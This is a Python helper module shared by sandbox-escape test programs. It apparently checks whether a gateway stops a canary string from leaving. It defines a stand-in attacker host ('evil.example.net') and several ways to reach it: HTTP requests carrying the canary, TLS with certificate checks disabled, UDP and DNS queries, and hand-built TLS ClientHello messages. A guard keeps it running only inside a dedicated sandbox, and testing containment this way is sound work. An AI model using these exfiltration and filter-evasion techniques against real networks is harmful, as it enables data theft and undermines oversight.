"""What the programs of this folder share. They try to get out of a sandbox, and refuse to run anywhere else.

    python3 THEME.py NAME     does one attempt, and prints what came of it
    python3 THEME.py          prints the names of all

An attempt returns what it got from outside, if anything, or raises what it was refused with."""

import os
import socket
import ssl
import struct
import sys

EVIL = "44.10.0.81"
EVIL_NAME = "evil.example.net"
WEB = "44.10.0.80"
WEB_NAME = "web.example.org"
GATEWAY = "10.0.2.3"
CANARY = "CANARY-that-must-not-get-out"
PATIENCE = 8

found = {}


def attempt(function):
    found[function.__name__] = function
    return function


def connect(host, port, source=None):
    return socket.create_connection((host, port), PATIENCE, source)


def exchange(made, data, wanted=4096):
    """What comes back; a reset is raised."""
    with made:
        made.settimeout(PATIENCE)
        made.sendall(data)
        return not_refused(made.recv(wanted))


def not_refused(data):
    """The gateway's own refusals are JSON with an error."""
    if data.startswith(b"HTTP/1.1 4") and b'{"error":' in data and b"HTTP/1.1 200" not in data:
        raise OSError(data.split(b"\r\n\r\n")[-1].decode(errors="replace"))
    return data


def get(host=EVIL_NAME, path="/", more=""):
    return f"GET {path}?{CANARY} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def http(host, port=80, name=None, more=""):
    return exchange(connect(host, port), get(name or host, more=more))


def tls(host, port=443, name=None, made=None):
    """A request inside TLS, as clients do that trust everyone."""
    context = ssl._create_unverified_context()
    with context.wrap_socket(made or connect(host, port), server_hostname=name) as secure:
        secure.sendall(get(name or host))
        return not_refused(secure.recv(4096))


def datagram(host, port, data=CANARY.encode(), family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.connect((host, port))
        made.send(data)
        return made.recv(4096)


def question(name, kind=1, number=7, labels=None):
    labels = labels if labels is not None else [label.encode() for label in name.split(".")]
    return (struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(each)]) + each for each in labels) +
            b"\0" + struct.pack("!HH", kind, 1))


def ask(message, server=GATEWAY, port=53):
    """The answer's code and number of answers: "NXDOMAIN 0"."""
    answer = datagram(server, port, message)
    return said(answer)


def ask_tcp(message, server=GATEWAY, port=53):
    answer = exchange(connect(server, port), struct.pack("!H", len(message)) + message)
    return said(answer[2:])


def said(answer):
    codes = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
    flags, _, answers = struct.unpack_from("!HHH", answer, 2)
    code = codes.get(flags & 15, str(flags & 15))
    if code != "NOERROR" or not answers:
        raise OSError(f"{code} {answers}")
    return f"{code} {answers}"


def hello(name, more=b"", pad=0):
    """A TLS ClientHello, as one handshake message."""
    def extension(kind, data):
        return struct.pack("!HH", kind, len(data)) + data

    extensions = b""
    if name is not None:
        text = name if isinstance(name, bytes) else name.encode()
        extensions += extension(0, struct.pack("!HBH", len(text) + 3, 0, len(text)) + text)
    extensions += extension(10, b"\0\4\0\x1d\0\x17") + extension(13, b"\0\4\4\3\x08\4") + extension(43, b"\2\3\4")
    extensions += extension(51, b"\0\x24\0\x1d\0\x20" + os.urandom(32)) + more
    while pad > 0:
        extensions += extension(0x3a3a + pad // 16000, bytes(min(pad, 16000)))
        pad -= 16000
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\x01" + b"\1\0" + struct.pack("!H", len(extensions)) + extensions
    return b"\1" + len(body).to_bytes(3, "big") + body


def records(message, size=16384):
    return b"".join(b"\x16\3\1" + struct.pack("!H", len(message[at:at + size])) + message[at:at + size]
                    for at in range(0, len(message), size))


def server_answered(data):
    """A handshake of the other side's is a way through; an alert is a refusal."""
    if data[:1] == b"\x16":
        return data
    raise OSError("alert" if data[:1] == b"\x15" else f"closed, {data[:20]!r}")


def inside():
    with open("/proc/1/comm", encoding="utf-8") as file:
        return "cove" in file.read() and os.environ.get("COVE_ATTEMPTS") == "here"


def main():
    if not inside():
        sys.exit("refused: this attacks a network, and only runs in a sandbox made for it")
    if len(sys.argv) == 1:
        print("\n".join(found))
        return
    try:
        got = found[sys.argv[1]]()
        print("came through:" if got else "nothing came back", repr(got)[:300] if got else "")
    except Exception as error:  # whatever it was refused with
        print(f"refused: {type(error).__name__}: {error}")
